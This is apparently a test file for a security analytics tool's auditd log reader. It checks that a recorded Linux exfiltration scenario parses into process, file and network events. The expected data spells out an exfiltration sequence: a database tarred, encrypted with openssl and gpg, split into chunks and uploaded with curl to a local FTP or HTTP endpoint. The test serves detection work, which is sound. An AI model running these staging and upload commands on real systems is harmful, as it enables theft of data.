// Real command lines of Linux exfiltration staging, as a real auditd logged them (testdata/attack.audit.log,
// recorded by testdata/record-scenario.sh): the process events must carry the exact argv and the file and
// net_conn events the paths and destinations the analytics work on.
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Event, EventOf } from '../../core/events.js';
import { readEvents } from '../testing.js';
import { auditdReader } from './index.js';

const fixture = readFileSync(new URL('./testdata/attack.audit.log', import.meta.url));

function ofKind<K extends Event['kind']>(events: Event[], kind: K): EventOf<K>[] {
  return events.filter((e): e is EventOf<K> => e.kind === kind);
}

describe('auditd attack fixture', async () => {
  const { items, health } = await readEvents(auditdReader, fixture);
  const procs = ofKind(items, 'process');
  const files = ofKind(items, 'file');
  const conns = ofKind(items, 'net_conn');
  const argvOf = (tool: string) => procs.filter((p) => p.argv?.[0] === tool).map((p) => p.argv);

  it('reads the whole log cleanly, attributed to the node', () => {
    expect(health.anomalies.total).toBe(0);
    expect(items.every((e) => e.host === 'web-01')).toBe(true);
  });

  it('keeps the exact argv of openssl enc and gpg -c, with cwd, pid, parent and user', () => {
    const openssl = procs.find((p) => p.argv?.[1] === 'enc' && p.argv.includes('-salt'))!;
    expect(openssl.argv).toEqual(['openssl', 'enc', '-aes-256-cbc', '-salt', '-in', 'db.tar', '-out', '/tmp/db.enc', '-k', 'S3cr3t-Exf1l']);
    expect(openssl.process).toMatchObject({ image: '/usr/bin/openssl', user: 'root', command_line: 'openssl enc -aes-256-cbc -salt -in db.tar -out /tmp/db.enc -k S3cr3t-Exf1l' });
    expect(openssl.cwd).toBe('/tmp');
    expect(openssl.parent?.pid).toBe(openssl.process.ppid);
    expect(argvOf('gpg')).toEqual([['gpg', '--batch', '--yes', '--passphrase', 'correct horse', '-c', 'db.tar']]);
    expect(procs.find((p) => p.argv?.[0] === 'gpg')!.process.command_line).toBe("gpg --batch --yes --passphrase 'correct horse' -c db.tar");
  });

  it('shows a shell pipeline as separate execve events of one parent shell', () => {
    const tar = procs.find((p) => p.argv?.[1] === 'czf')!;
    const enc = procs.find((p) => p.argv?.includes('-pbkdf2'))!;
    const curl = procs.find((p) => p.argv?.includes('-T'))!;
    expect(tar.argv).toEqual(['tar', 'czf', '-', '/srv/db']);
    expect(enc.argv).toEqual(['openssl', 'enc', '-aes-256-cbc', '-pbkdf2', '-pass', 'pass:Winter2026']);
    expect(curl.argv).toEqual(['curl', '-s', '--max-time', '3', '-T', '-', 'ftp://127.0.0.1:2121/upload/db.bin']);
    expect(new Set([tar.process.ppid, enc.process.ppid, curl.process.ppid]).size).toBe(1);
    expect(new Set([tar.process.pid, enc.process.pid, curl.process.pid]).size).toBe(3);
  });

  it('sees split, then one curl --data-binary @chunk per piece', () => {
    expect(argvOf('split')).toEqual([['split', '-b', '16k', '/tmp/db.enc', '/tmp/chunk_']]);
    const uploads = argvOf('curl').filter((a) => a!.includes('--data-binary'));
    expect(uploads.map((a) => a![a!.indexOf('--data-binary') + 1])).toEqual(['@/tmp/chunk_aa', '@/tmp/chunk_ab', '@/tmp/chunk_ac', '@/tmp/chunk_ad', '@/tmp/chunk_ae']);
  });

  it('makes file events with absolute paths for the staged and encrypted files', () => {
    const action = (path: string) => files.filter((f) => f.path === path).map((f) => `${f.action} by ${f.process?.image}`);
    expect(action('/tmp/db.tar')).toEqual(['create by /usr/bin/tar', 'delete by /usr/bin/rm']);
    expect(action('/tmp/db.enc')).toEqual(['create by /usr/bin/openssl']);
    expect(action('/tmp/db.tar.gpg')).toEqual(['create by /usr/bin/gpg']);
    expect(action('/tmp/.cache.bin')).toEqual(['rename by /usr/bin/mv']);
    expect(files.filter((f) => f.path.startsWith('/tmp/chunk_') && f.action === 'create')).toHaveLength(5);
    const enc = files.find((f) => f.path === '/tmp/db.enc')!;
    expect(enc.process?.command_line).toContain('-out /tmp/db.enc');
  });

  it('makes net_conn events for the uploads, with the uploading process', () => {
    const ftp = conns.filter((c) => c.dst_port === 2121);
    expect(ftp).toHaveLength(1);
    expect(ftp[0]).toMatchObject({ dst_ip: '127.0.0.1', outbound: true, process: { image: '/usr/bin/curl' } });
    expect(ftp[0]!.process?.command_line).toContain('ftp://127.0.0.1:2121/upload/db.bin');
    expect(conns.filter((c) => c.dst_port === 8000)).toHaveLength(5);
    // The nscd lookups were unix-socket connects that failed: not network connections.
    expect(conns.every((c) => c.dst_ip === '127.0.0.1')).toBe(true);
  });
});

describe('ausearch output of the same log', () => {
  const read = async (name: string) => (await readEvents(auditdReader, readFileSync(new URL(`./testdata/${name}`, import.meta.url)))).items;

  it('gives the same events from plain ausearch (framing, reversed records, no ENRICHED part)', async () => {
    const items = await read('ausearch-openssl.txt');
    const { items: original } = await readEvents(auditdReader, fixture);
    const pick = (events: Event[]) => ofKind(events, 'process').filter((p) => p.argv?.[0] === 'openssl').map((p) => [p.process.pid, p.argv, p.cwd]);
    expect(pick(items)).toEqual(pick(original));
    expect(ofKind(items, 'file').map((f) => f.path)).toEqual(['/tmp/db.enc']);
    // Without the ENRICHED part the user is the numeric uid.
    expect(ofKind(items, 'process')[0]!.process.user).toBe('0');
  });

  it('gives the gpg events from ausearch --raw', async () => {
    const items = await read('ausearch-raw-gpg.log');
    expect(ofKind(items, 'process').map((p) => p.argv)).toEqual([['gpg', '--batch', '--yes', '--passphrase', 'correct horse', '-c', 'db.tar']]);
    expect(ofKind(items, 'file').map((f) => `${f.action} ${f.path}`)).toContain('create /tmp/db.tar.gpg');
  });
});
